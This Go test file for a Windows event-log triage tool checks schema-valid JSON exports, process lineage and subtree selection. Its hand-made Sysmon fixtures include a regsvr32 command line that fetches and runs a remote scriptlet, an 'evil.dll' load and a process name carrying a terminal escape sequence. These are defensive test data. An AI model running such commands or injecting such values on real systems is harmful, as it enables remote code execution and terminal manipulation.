package triage

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/evtriage/evtriage/internal/golden"
	"github.com/evtriage/evtriage/internal/winpath"
	"github.com/evtriage/evtriage/parser"
	"github.com/evtriage/evtriage/rules"
)

// handResult builds a Result from hand-made events and "matches" given as
// event index → rule, without the rules engine.
func handResult(t testing.TB) *Result {
	t.Helper()
	const (
		cmd = `C:\Windows\System32\cmd.exe`
		reg = `C:\Windows\System32\regsvr32.exe`
	)
	evs := []*parser.Event{
		s1("WS1", 1, at(1), 2, 200, cmd, 1, 100, `C:\Windows\explorer.exe`),
		s1("WS1", 2, at(2), 3, 300, reg, 2, 200, cmd, "CommandLine", `regsvr32 /s /u /i:http://x/a.sct scrobj.dll`),
		s7("WS1", 3, at(3), 3, 300, reg, `C:\Users\u\AppData\evil.dll`, "false"),
		s1("WS1", 4, at(4), 4, 400, `C:\Windows\System32\calc.exe`, 3, 300, reg),
		ev("Microsoft-Windows-Sysmon/Operational", 1, "WS1", 5, at(5), "ProcessGuid", guid(5), "Image", "\x1b]0;pwned\x07.exe", "", "unnamed", "X", "1", "X", "2"),
	}
	seed := &rules.Rule{ID: "seed", Title: "Seed", Level: rules.LevelMedium, Tags: []string{"attack.t1218.010"}}
	child := &rules.Rule{ID: "child", Title: "Child of regsvr32", Level: rules.LevelHigh}
	unsignedRule := &rules.Rule{ID: "unsigned", Title: "Unsigned load", Level: rules.LevelLow}
	h := huntEvents(evs, Options{AllActivity: true}, func(h *Hunter, refs map[*parser.Event]*EventRef) {
		add := func(i int, r *rules.Rule, supp ...string) {
			h.matches = append(h.matches, pending{ref: refs[evs[i]], rule: r, details: []rules.MatchDetail{{Selection: "selection", Field: "Image", Modifier: "endswith", Value: `\regsvr32.exe`}}, suppressed: supp})
		}
		add(1, seed, "filter_main_other_flags")
		add(2, unsignedRule)
		add(3, child)
		add(4, seed)
	})
	res := h.res
	res.Sources = []Source{{Path: "t.evtx", SHA256: strings.Repeat("ab", 32), Records: 5, Problems: []Problem{{Offset: 0x11000, Err: &parser.FormatError{Offset: 0x11000, Msg: "chunk 1: bad CRC"}}}}}
	res.Loaded = []*rules.Rule{seed, child, unsignedRule}
	res.Rejected = []rules.Rejection{{Path: "bad.yml", Line: 3, Reason: "unknown modifier"}}
	res.Provenance = Provenance{Version: "test", Commit: "c0ffee", Command: []string{"hunt", "--min-level", "low", "-o", "out.json", "t.evtx"}}
	res.RulesDigest = "sha256:" + strings.Repeat("cd", 32)
	res.Generated = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	return res
}

// exportFile writes res's written findings to path.
func exportFile(t *testing.T, path string, res *Result, format Format) {
	t.Helper()
	var b bytes.Buffer
	if err := WriteExport(&b, res, res.Written(), format); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
}

// writeOldExport rewrites the JSON export at from in the shape of
// evtriage 0.1 (JSON Lines of findings carrying their process and lineage
// as objects), to check that such exports still serve as baselines.
func writeOldExport(t *testing.T, path, from string) {
	t.Helper()
	data, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Processes []map[string]any
		Findings  []map[string]any
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	procs := map[float64]map[string]any{}
	for _, p := range doc.Processes {
		procs[p["id"].(float64)] = p
	}
	var out bytes.Buffer
	for _, f := range doc.Findings {
		if id, ok := f["process"].(float64); ok {
			f["process"] = procs[id]
		}
		var lineage []any
		for _, id := range f["lineage"].([]any) {
			lineage = append(lineage, procs[id.(float64)])
		}
		f["lineage"], f["children"] = lineage, []any{}
		delete(f, "lineage_omitted")
		b, _ := json.Marshal(f)
		out.Write(append(b, '\n'))
	}
	if err := os.WriteFile(path, out.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
}

func TestExportValidatesAgainstSchema(t *testing.T) {
	schema, err := decodeSchema()
	if err != nil {
		t.Fatal(err)
	}
	res := handResult(t)
	tests := []struct {
		name     string
		findings []*Finding
		format   Format
	}{
		{"json all", res.Findings, FormatJSON},
		{"json written", res.Written(), FormatJSON},
		{"json none", nil, FormatJSON},
		{"jsonl all", res.Findings, FormatJSONL},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := WriteExport(&b, res, tc.findings, tc.format); err != nil {
				t.Fatal(err)
			}
			if tc.format == FormatJSON {
				var v any
				if err := json.Unmarshal(b.Bytes(), &v); err != nil {
					t.Fatal(err)
				}
				for _, e := range validate(schema, v) {
					t.Error(e)
				}
				if n := len(v.(map[string]any)["findings"].([]any)); n != len(tc.findings) {
					t.Errorf("%d findings exported, want %d", n, len(tc.findings))
				}
				return
			}
			line := map[string]any{"$ref": "#/$defs/line"}
			sc := bufio.NewScanner(&b)
			n, findings := 0, 0
			for sc.Scan() {
				n++
				var v map[string]any
				if err := json.Unmarshal(sc.Bytes(), &v); err != nil {
					t.Fatalf("line %d: %v", n, err)
				}
				vd := &validator{root: schema}
				vd.check(line, v, "$")
				for _, e := range vd.errs {
					t.Errorf("line %d: %s", n, e)
				}
				if len(v) != 1 || (n == 1) != (v["export"] != nil) {
					t.Errorf("line %d: %d keys, export head first: %.100s", n, len(v), sc.Bytes())
				}
				if v["finding"] != nil {
					findings++
				}
			}
			if findings != len(tc.findings) {
				t.Errorf("%d finding lines, want %d", findings, len(tc.findings))
			}
		})
	}
}

// TestValidatorRejects makes sure the schema check can fail.
func TestValidatorRejects(t *testing.T) {
	schema, err := decodeSchema()
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	res := handResult(t)
	if err := WriteExport(&b, res, res.Findings, FormatJSON); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name   string
		mutate func(doc map[string]any)
		want   string
	}{
		{"missing tool", func(d map[string]any) { delete(d, "tool") }, `missing required "tool"`},
		{"wrong type", func(d map[string]any) { d["sources"] = "x" }, "type string"},
		{"extra key", func(d map[string]any) { d["extra"] = 1 }, `unexpected property "extra"`},
		{"bad level", func(d map[string]any) {
			d["findings"].([]any)[0].(map[string]any)["rule"].(map[string]any)["level"] = "severe"
		}, "not in enum"},
		{"negative pid", func(d map[string]any) {
			d["processes"].([]any)[0].(map[string]any)["pid"] = -1.0
		}, "below minimum"},
		{"process as an object", func(d map[string]any) {
			d["findings"].([]any)[0].(map[string]any)["process"] = map[string]any{}
		}, "type object"},
		{"non-string field", func(d map[string]any) {
			d["findings"].([]any)[0].(map[string]any)["event"].(map[string]any)["fields"].(map[string]any)["Image"] = 3.0
		}, "type integer"},
	}
	for _, tc := range tests {
		var doc map[string]any
		if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
			t.Fatal(err)
		}
		tc.mutate(doc)
		errs := strings.Join(validate(schema, doc), "\n")
		if !strings.Contains(errs, tc.want) {
			t.Errorf("%s: errors %q lack %q", tc.name, errs, tc.want)
		}
	}
}

func TestExportGolden(t *testing.T) {
	res := handResult(t)
	for _, tc := range []struct {
		name   string
		format Format
	}{{"export.json", FormatJSON}, {"export.jsonl", FormatJSONL}} {
		var b bytes.Buffer
		if err := WriteExport(&b, res, res.Findings, tc.format); err != nil {
			t.Fatal(err)
		}
		golden.Assert(t, tc.name, b.Bytes())
	}
}

func TestExportContent(t *testing.T) {
	res := handResult(t)
	var b bytes.Buffer
	if err := WriteExport(&b, res, res.Findings, FormatJSON); err != nil {
		t.Fatal(err)
	}
	var doc exportDoc
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	procs := map[int]exportProcess{}
	for _, p := range doc.Processes {
		if _, dup := procs[p.ID]; dup {
			t.Errorf("process %d listed twice", p.ID)
		}
		procs[p.ID] = p
	}
	image := func(id int) string { return winpath.Base(procs[id].Image) }
	var child exportFinding
	for _, f := range doc.Findings {
		if f.Rule.ID == "child" {
			child = f
		}
	}
	var lineage []string
	for _, id := range child.Lineage {
		lineage = append(lineage, image(id))
	}
	if got := strings.Join(lineage, ">"); got != "explorer.exe>cmd.exe>regsvr32.exe>calc.exe" {
		t.Errorf("lineage %s", got)
	}
	if child.Process == nil || procs[*child.Process].PID != 400 {
		t.Fatalf("process %v", child.Process)
	}
	// The lineage follows the parent ids of the table.
	var up []string
	for id := child.Process; id != nil; id = procs[*id].Parent {
		up = append([]string{image(*id)}, up...)
	}
	if strings.Join(up, ">") != strings.Join(lineage, ">") {
		t.Errorf("parents give %v, lineage %v", up, lineage)
	}
	for _, f := range doc.Findings {
		if f.Rule.ID != "seed" || f.Event.RecordID != 5 {
			continue
		}
		want := map[string]string{"ProcessGuid": guid(5), "Image": "\x1b]0;pwned\x07.exe", "Data": "unnamed", "X": "1", "X#2": "2"}
		if len(f.Event.Fields) != len(want) {
			t.Errorf("fields %v, want %v", f.Event.Fields, want)
		}
		for k, v := range want {
			if f.Event.Fields[k] != v {
				t.Errorf("field %s = %q, want %q", k, f.Event.Fields[k], v)
			}
		}
	}
	// regsvr32 lists calc among its children, and its unsigned load.
	var reg exportFinding
	for _, f := range doc.Findings {
		if f.Rule.ID == "unsigned" {
			reg = f
		}
	}
	rp := procs[*reg.Process]
	if len(rp.Children) != 1 || image(rp.Children[0]) != "calc.exe" || rp.ChildrenTotal != 1 {
		t.Errorf("children of regsvr32: %+v", rp)
	}
	if rp.Activity.Counts.Count(KindImageLoad) != 1 || len(rp.Activity.Events) != 1 || rp.Activity.Events[0].Kind != "image_load" ||
		rp.Activity.Events[0].Fields["ImageLoaded"] != `C:\Users\u\AppData\evil.dll` {
		t.Errorf("activity of regsvr32: %+v", rp.Activity)
	}
}

// TestRealExportValidates validates exports of real hunts against the
// schema: the shared logs with every finding (suppressed too), and the
// generated month with a baseline window (the baseline object filled).
func TestRealExportValidates(t *testing.T) {
	schema, err := decodeSchema()
	if err != nil {
		t.Fatal(err)
	}
	files, _ := filepath.Glob(filepath.Join(sharedDir(t), "evtx", "*.evtx"))
	early, late := month(t)
	tests := []struct {
		name  string
		opts  Options
		files []string
	}{
		{"shared logs", Options{}, files},
		{"baseline window", Options{BaselineWindow: 30 * 24 * time.Hour}, []string{early, late}},
		{"baseline log", Options{Baseline: []string{early}, NewKey: KeyParentChild}, []string{late}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tc.opts.Rules = builtin(t)
			h := NewHunter(tc.opts)
			for _, f := range tc.files {
				_ = h.AddFile(context.Background(), f, nil)
			}
			res := h.Finish()
			var b bytes.Buffer
			if err := WriteExport(&b, res, res.Findings, FormatJSON); err != nil {
				t.Fatal(err)
			}
			var v any
			if err := json.Unmarshal(b.Bytes(), &v); err != nil {
				t.Fatal(err)
			}
			for _, e := range validate(schema, v) {
				t.Error(e)
			}
			if len(res.Findings) == 0 {
				t.Error("no findings exported")
			}
		})
	}
}

func TestFieldMap(t *testing.T) {
	many := make([]parser.Field, 20000)
	for i := range many {
		many[i] = parser.Field{Name: "X", Value: fmt.Sprint(i)}
	}
	tests := []struct {
		name   string
		fields []parser.Field
		want   map[string]string
	}{
		{"plain", []parser.Field{{Name: "A", Value: "1"}, {Name: "B", Value: "2"}}, map[string]string{"A": "1", "B": "2"}},
		{"unnamed", []parser.Field{{Name: "", Value: "1"}, {Name: "", Value: "2"}}, map[string]string{"Data": "1", "Data#2": "2"}},
		{"suffix already taken", []parser.Field{{Name: "X", Value: "1"}, {Name: "X#2", Value: "a"}, {Name: "X", Value: "2"}, {Name: "X", Value: "3"}},
			map[string]string{"X": "1", "X#2": "a", "X#3": "2", "X#4": "3"}},
	}
	for _, tc := range tests {
		got := fieldMap(&EventRef{Event: &parser.Event{Fields: tc.fields}})
		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("%s: %v, want %v", tc.name, got, tc.want)
		}
	}
	got := fieldMap(&EventRef{Event: &parser.Event{Fields: many}})
	if len(got) != len(many) || got["X#20000"] != "19999" {
		t.Errorf("%d fields kept of %d; X#20000 = %q", len(got), len(many), got["X#20000"])
	}
}

// TestExportSubtree: an export of a subtree (Selection.Subtree) holds every
// process of it, with the activity kept for each (image loads, files,
// registry…), and its root's ancestors, whether they have findings or not;
// nothing outside it; in both formats, JSON Lines writing each process
// before the findings.
func TestExportSubtree(t *testing.T) {
	const (
		cmd = `C:\Windows\System32\cmd.exe`
		reg = `C:\Windows\System32\regsvr32.exe`
	)
	evs := []*parser.Event{
		s1("WS1", 1, at(1), 2, 200, cmd, 1, 100, `C:\Windows\explorer.exe`),
		s1("WS1", 2, at(2), 3, 300, reg, 2, 200, cmd, "CommandLine", `regsvr32 /s C:\u\x.dll`),
		s7("WS1", 3, at(3), 3, 300, reg, `C:\u\x.dll`, "false"),
		ev(sysmonCh, 11, "WS1", 4, at(4), "ProcessGuid", guid(3), "ProcessId", "300", "Image", reg, "TargetFilename", `C:\u\drop.sct`),
		ev(sysmonCh, 13, "WS1", 5, at(5), "ProcessGuid", guid(3), "ProcessId", "300", "Image", reg, "EventType", "SetValue",
			"TargetObject", `HKCU\Software\x`, "Details", "1"),
		s1("WS1", 6, at(6), 4, 400, `C:\Windows\System32\calc.exe`, 3, 300, reg),
		s1("WS1", 7, at(7), 5, 500, `C:\Windows\notepad.exe`, 4, 400, `C:\Windows\System32\calc.exe`),
		s1("WS1", 8, at(8), 6, 600, `C:\Windows\System32\ping.exe`, 2, 200, cmd), // cmd's, not in regsvr32's subtree
	}
	res := huntEvents(evs, Options{AllActivity: true}, nil).res
	var root *Process
	for _, p := range res.Processes {
		if p.PID == 300 {
			root = p
		}
	}
	if root == nil {
		t.Fatal("no regsvr32")
	}
	snap := *res
	snap.Selection = &Selection{Subtree: root}
	for _, format := range []Format{FormatJSON, FormatJSONL} {
		var b bytes.Buffer
		if err := WriteExport(&b, &snap, nil, format); err != nil {
			t.Fatal(err)
		}
		var procs []exportProcess
		if format == FormatJSON {
			var doc exportDoc
			if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
				t.Fatal(err)
			}
			procs = doc.Processes
		} else {
			for _, line := range strings.Split(strings.TrimSpace(b.String()), "\n")[1:] {
				var l exportLine
				if err := json.Unmarshal([]byte(line), &l); err != nil || l.Process == nil {
					t.Fatalf("line %s: %v", line, err)
				}
				procs = append(procs, *l.Process)
			}
		}
		var pids []string
		for _, p := range procs {
			pids = append(pids, fmt.Sprint(p.PID))
			if p.PID == 300 {
				kinds := map[string]int{}
				for _, e := range p.Activity.Events {
					kinds[e.Kind]++
				}
				if kinds["image_load"] != 1 || kinds["file"] != 1 || kinds["registry"] != 1 || p.Activity.EventsTotal != 3 {
					t.Errorf("%v: regsvr32's activity %v", format, kinds)
				}
			}
		}
		sort.Strings(pids)
		if got := strings.Join(pids, " "); got != "100 200 300 400 500" {
			t.Errorf("%v: processes %s, want the ancestors 100 200, regsvr32 300 and its descendants 400 500", format, got)
		}
	}
}
